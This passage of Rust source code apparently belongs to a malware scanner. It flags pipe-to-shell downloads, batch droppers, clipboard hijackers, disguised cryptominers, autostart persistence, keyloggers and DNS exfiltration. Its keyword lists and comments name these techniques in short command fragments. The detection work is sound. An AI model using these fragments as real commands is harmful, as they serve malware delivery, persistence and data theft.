        let line = around(data, p, 0, 0);
        let pipe = any_of(
            line,
            &[
                "| sh",
                "|sh",
                "| bash",
                "|bash",
                "| iex",
                "|iex",
                "| sudo sh",
                "| sudo bash",
            ],
        );
        let inmem = dynamic_exec(around(data, p, 0, 3));
        let pipe = pipe || inmem
            // `curl … | python -` runs the download; `| python -c '…'` parses it.
            || line.ends_with(b"| python -")
            || line.ends_with(b"| python3 -");
        let iex = (at(data, p, "DownloadString") || at(data, p, "Net.WebClient"))
            && any_of(line, &["IEX", "iex", "Invoke-Expression"]);
        let wrote = any_of(win, WRITE_MARKERS);
        let runs = any_of(win, RUN_MARKERS) || dynamic_exec(win);
        let chmod_only = !runs && any_of(win, &["chmod", "os.chmod", "chmodSync", "set_permissions"]);
        if !(pipe || iex || (wrote && (runs || chmod_only))) {
            continue;
        }
        let (mut src, url) = source_of(around(data, p, 3, 3));
        // `axios.get(atob(u))`, `urlopen(b64decode(u))`: the address itself is hidden, which
        // no updater or plugin loader needs.
        if src == Source::Unknown
            && any_of(
                line,
                &["atob(", "b64decode(", "fromCharCode", "'base64')", "\"base64\")"],
            )
        {
            src = Source::Suspicious("an address hidden in base64");
        }
        let url_text = url.as_deref().map(|u| format!(" {}", clip(u, 80))).unwrap_or_default();
        let how = if inmem && !iex {
            "downloads code and executes it in memory"
        } else if pipe || iex {
            "downloads a script and pipes it straight into a shell"
        } else if chmod_only {
            "downloads a file and makes it executable"
        } else {
            "downloads a file and runs it"
        };
        // Run hidden, from a temp folder, or as a Windows executable: what droppers do
        // and self-updaters rarely need.
        let stealthy = any_of(
            win,
            &[
                "startfile",
                "Start-Process",
                "hidden",
                "Hidden",
                "CREATE_NO_WINDOW",
                "detached",
                ".exe",
                ".scr",
                ".vbs",
                ".bat",
                ".hta",
                "/tmp/",
                "gettempdir",
                "TEMP",
                "APPDATA",
                "tmpdir()",
            ],
        );
        let code = matches!(place, Place::Code | Place::Install);
        let sev = match src {
            Source::Known => None,
            Source::Suspicious(_) => Some(Severity::Critical),
            Source::Other if code && (pipe || iex || (runs && stealthy)) => Some(Severity::Critical),
            Source::Other if code && runs => Some(Severity::High),
            Source::Other if code => Some(Severity::Medium),
            Source::Other if pipe || iex => Some(Severity::Medium),
            Source::Unknown if code && runs && (pipe || iex || stealthy) => Some(Severity::High),
            Source::Unknown if code && runs => Some(Severity::Medium),
            _ => None,
        };
        if let Some(sev) = sev {
            let from = match src {
                Source::Suspicious(s) => format!(" from {s}"),
                _ => String::new(),
            };
            out.push(finding(
                sev,
                "Downloads and runs code",
                path,
                ln(p),
                format!("{path} line {} {how}{from}:{url_text}.", ln(p)),
            ));
            break;
        }
    }

    // --- Batch droppers (coa/rc, ua-parser-js on Windows).
    if let Some((p, how)) = batch_dropper(path, data, f) {
        out.push(finding(
            Severity::Critical,
            "Batch script downloads and launches a Windows binary",
            path,
            ln(p),
            format!(
                "{path} downloads a DLL or executable and {how} (line {}): the shape of the coa/rc and ua-parser-js droppers.",
                ln(p)
            ),
        ));
    }

    // --- Clipboard hijacking: read + write + address-shaped regex, in a watch loop (native
    // clipboard libraries) or a `copy` event handler (browsers). A wallet screen with a
    // paste button, a copy button and address validation has no loop or copy handler.
    if let Some(p) = f.has(Sig::Clipboard).filter(|&p| !is_comment(data, p)) {
        let native = any_of(
            data,
            &[
                "pyperclip",
                "win32clipboard",
                "GetClipboardData",
                "pbpaste",
                "xclip",
                "clipboardy",
                "clipboard_get",
                "Clipboard.GetText",
            ],
        );
        let read = any_of(data, CLIP_READ);
        let write = any_of(data, CLIP_WRITE);
        let address = any_of(
            data,
            &[
                "{25,", "{26,", "{33}", "{39}", "{40}", "{32,44}", "{93}", "{94}", "{95}", "bc1",
            ],
        );
        let watch = any_of(
            data,
            &[
                "while True",
                "while 1",
                "while(true)",
                "while (true)",
                "setInterval",
                "Sleep(",
            ],
        );
        let copy_event = any_of(
            data,
            &[
                "addEventListener('copy'",
                "addEventListener(\"copy\"",
                "oncopy",
                "on('copy'",
            ],
        );
        // Or, without a loop in sight: paste, test against a regex, copy back, within a
        // few lines (the body of a clipper's loop).
        let swap = native && {
            let r = CLIP_READ
                .iter()
                .filter_map(|m| memchr::memmem::find(data, m.as_bytes()))
                .min();
            r.is_some_and(|r| {
                let body = around(data, r, 0, 8);
                CLIP_WRITE.iter().any(|m| contains(body, m))
                    && any_of(body, &["re.search", "re.match", "re.fullmatch", ".test(", ".match("])
            })
        };
        let p = CLIP_READ
            .iter()
            .filter_map(|m| memchr::memmem::find(data, m.as_bytes()))
            .min()
            .unwrap_or(p);
        // The replacement has to come from somewhere: the attacker's own address written
        // into the code, or fetched from a server. A clipboard manager that labels copied
        // addresses and restores old entries has neither.
        let replacement = ADDRESS_LITERAL.is_match(data) || f.send.is_some();
        if read && write && address && replacement && ((native && (watch || swap)) || copy_event) {
            out.push(finding(
                Severity::Critical,
                "Clipboard hijacker",
                path,
                ln(p),
                format!(
                    "{path} watches the clipboard (line {}), matches crypto-address patterns and writes a replacement back: copied wallet addresses get swapped for the attacker's.",
                    ln(p)
                ),
            ));
        }
    }

    // --- Cryptominers started by the code.
    if let Some(p) = f.has(Sig::Miner).filter(|&p| !is_comment(data, p)) {
        let starts = f.spawn.is_some() || !f.download.is_empty() || f.has(Sig::PyExec).is_some();
        if starts {
            let wallet = MONERO
                .find(around(data, p, 10, 10))
                .map(|_| ", with a hard-coded Monero address")
                .unwrap_or("");
            let disguised = miner_disguised(data, f);
            out.push(finding(
                if install || disguised.is_some() {
                    Severity::Critical
                } else {
                    Severity::High
                },
                "Starts a cryptominer",
                path,
                ln(p),
                format!(
                    "{path} line {} launches a cryptominer (XMRig/stratum pool){wallet}{}{}.",
                    ln(p),
                    if install { " at install time" } else { "" },
                    disguised.map(|d| format!(", disguised: {d}")).unwrap_or_default()
                ),
            ));
        }
    }

    // --- Persistence + fetching a payload.
    if let Some(p) = f
        .all(Sig::Persistence)
        .find(|&p| !is_comment(data, p) && persistence(data, p))
    {
        // Setup scripts install services and download binaries legitimately: there only
        // an exfiltration channel counts.
        let fetch = f.download.first().copied().filter(|_| place != Place::Script);
        let sev_where = match (f.endpoint, fetch) {
            (Some((e, l)), _) => Some((Severity::Critical, format!(" and sends data to {l} (line {})", ln(e)))),
            (None, Some(d)) => Some((Severity::High, format!(" and downloads files (line {})", ln(d)))),
            _ => None,
        };
        if let Some((sev, with)) = sev_where {
            out.push(finding(
                sev,
                "Installs itself to run at startup",
                path,
                ln(p),
                format!(
                    "{path} registers an autostart entry (Run key, scheduled task, cron @reboot, LaunchAgent or startup folder; line {}){with}.",
                    ln(p)
                ),
            ));
        }
    }

    // --- Keyloggers and screen capture sent out.
    let keylog = f.all(Sig::Keylogger).find(|&p| {
        !is_comment(data, p)
            && (!at(data, p, "pynput") || contains(data, "keyboard.Listener") || contains(data, "on_press"))
    });
    let screen = f.has(Sig::ScreenCapture).filter(|&p| !is_comment(data, p));
    let outbound = f
        .endpoint
        .map(|(p, l)| (p, l.to_string()))
        .or(f.mail_or_ftp.map(|p| (p, "e-mail or FTP".to_string())));
    if let (Some(k), Some((o, l))) = (keylog, outbound.clone()) {
        out.push(finding(
            Severity::Critical,
            "Keylogger that sends keystrokes out",
            path,
            ln(k),
            format!(
                "{path} records keystrokes (line {}) and sends data to {l} (line {}): a keylogger.",
                ln(k),
                ln(o)
            ),
        ));
    } else if let (Some(s), Some((o, l))) = (screen, outbound) {
        out.push(finding(
            Severity::High,
            "Captures the screen and sends it out",
            path,
            ln(s),
            format!(
                "{path} takes screenshots (line {}) and sends data to {l} (line {}).",
                ln(s),
                ln(o)
            ),
        ));
    }

    // --- DNS exfiltration: a looked-up name built from host data.
    for p in f.all(Sig::DnsLookup) {
        if is_comment(data, p) {
            continue;
        }
        let near = around(data, p, 1, 1);
        let host_data = any_of(
            near,
            &[
                "hostname(",
                "$(hostname",
                "`hostname`",
                "getuser",
                "getlogin",
                "whoami",
                "userInfo(",
                "process.env",
                "os.environ",
                "homedir",
                ".hex()",
                "hexlify",
                "b32encode",
                "toString('hex')",
                "toString(\"hex\")",
                "toString('base64')",
                "$(id",
                "$(pwd",
            ],
        );
        let built = any_of(
            near,
            &[
                "+ '.", "+'.", "+ \".", "+\".", "'.' +", "\".\" +", "${", "f\"", "f'", ".format(", "$(", "`",
            ],
        );
        let oob = f.has(Sig::ExfilOob).is_some();
        if built && (host_data || oob) {
            out.push(finding(
                if install { Severity::Critical } else { Severity::High },
                "Exfiltrates data through DNS lookups",
                path,
                ln(p),
                format!(
                    "{path} line {} looks up a host name built from the machine's data (user, host, environment): DNS queries carry it out past firewalls.",
                    ln(p)
                ),
            ));
            break;
        }
    }
}

/// How a started miner hides, if it does: renamed to another program's name
/// (`mv xmrig sysupdate`), or started under a name that is not a miner's with miner options
/// (`./jsextension --donate-level=1 -o pool…`), in the background (`nohup`, `--background`,
/// a trailing `&`). A mining-pool project documents `./xmrig -o stratum+tcp://…` under its
/// own name and in the foreground.
fn miner_disguised(data: &[u8], f: &Facts) -> Option<&'static str> {
    for p in f.all(Sig::Miner) {
        if is_comment(data, p) {
            continue;
        }
        let line = around(data, p, 0, 0);
        let near = around(data, p, 3, 3);
        let background =
            any_of(near, &["nohup", "--background", "-B ", "start /B"]) || line.trim_ascii_end().ends_with(b"&");
        // `mv xmrig sysupdate`, `mv xmrig-6.21/xmrig /usr/bin/.kworker`.
        let renamed = line.trim_ascii_start().starts_with(b"mv ")
            && line
                .rsplit(|b| b.is_ascii_whitespace())
                .find(|w| !w.is_empty())
                .is_some_and(|dst| !contains_ci(dst, "xmrig") && !contains_ci(dst, "miner"));
        if renamed && (contains(data, "nohup") || contains(data, "--background")) {
            return Some("the miner binary is renamed and started in the background");
        }
        // Miner options on a command whose program is not called a miner.
        let opts = at(data, p, "--donate-level") || contains(line, "--donate-level");
        if opts && background {
            let prog = line
                .trim_ascii_start()
                .split(|b| b.is_ascii_whitespace())
                .find(|w| !w.is_empty() && !w.starts_with(b"(") && !w.starts_with(b"start") && !w.starts_with(b"/"))
                .unwrap_or_default();
            if !contains_ci(prog, "xmrig") && !contains_ci(prog, "miner") && !prog.is_empty() {
                return Some("started in the background under another program's name");
            }
        }
    }
    None
}

/// A Windows batch dropper: fetches a `.dll`/`.exe`/`.scr` and registers or starts it
/// (`regsvr32`, `rundll32`), or hides its command names in variable fragments
/// (`set r=reg` `set s=svr32` … `%r%%s%.exe`). Build scripts download tools too, but do not
/// spell `regsvr32` in pieces or register a DLL they just fetched.
pub(crate) fn batch_dropper(path: &str, data: &[u8], f: &Facts) -> Option<(usize, &'static str)> {
    let lower = path.to_ascii_lowercase();
    if !(lower.ends_with(".bat") || lower.ends_with(".cmd")) || f.download.is_empty() {
        return None;
    }
    static BIN_URL: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r#"(?i)https?://[^\s"'<>]+\.(?:dll|exe|scr)\b"#).expect("binary url regex"));
    static SPLIT_CMD: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"(?m)^\s*%[A-Za-z_]\w*%%[A-Za-z_]\w*%").expect("split command regex"));
    let url = BIN_URL.find(data)?;
    if let Some(m) = SPLIT_CMD.find(data) {
        return Some((m.start(), "builds its command names from variable fragments"));
    }
    let reg = ["regsvr32", "rundll32"]
        .iter()
        .filter_map(|r| memchr::memmem::find(data, r.as_bytes()))
        .min();
    reg.filter(|_| url.start() > 0)
        .map(|p| (p, "registers or runs the DLL it downloaded (regsvr32/rundll32)"))
}

/// An autostart registration, not a mention.
fn persistence(data: &[u8], p: usize) -> bool {
    let line = around(data, p, 0, 0);
    let near = around(data, p, 3, 3);
    if at(data, p, "CurrentVersion") {
        return true;
    }
    if at(data, p, "schtasks") {
        return contains_ci(line, "/create");
    }
    if at(data, p, "@reboot") {
        return true;
    }
    if at(data, p, "LaunchAgents") {
        return contains(near, ".plist");
    }
    if at(data, p, "Start Menu") {
        return contains(near, "Startup");
    }
    if at(data, p, "systemd/user") {
        return contains(near, ".service") && any_of(near, &["write", "open(", "WriteFile", "enable"]);
    }
    // crontab: a backup tool schedules itself too; only a boot entry counts, or a cron line
    // installed together with a download (see the caller).
    at(data, p, "crontab") && any_of(line, &["@reboot"])
}
